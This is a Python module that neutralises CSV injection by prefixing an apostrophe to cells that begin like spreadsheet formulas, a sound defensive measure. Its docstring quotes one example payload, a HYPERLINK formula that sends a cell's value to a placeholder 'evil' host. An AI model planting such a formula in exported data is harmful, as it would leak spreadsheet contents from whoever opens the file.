"""CSV cells that a spreadsheet opens as text, never as a formula (CSV injection, CWE-1236).

Excel, LibreOffice and WPS evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or a
carriage return, the same): a product named ``=HYPERLINK("http://evil/?"&A1, "点击")`` would run in a buyer's
spreadsheet. Such text gets a leading apostrophe (the spreadsheet convention for "this is text", shown by no
spreadsheet), as OWASP recommends. Numbers (``-1.50``) are left as they are: they are not formulas.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet evaluates: text starting like a formula is prefixed with ``'``."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS) or _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])
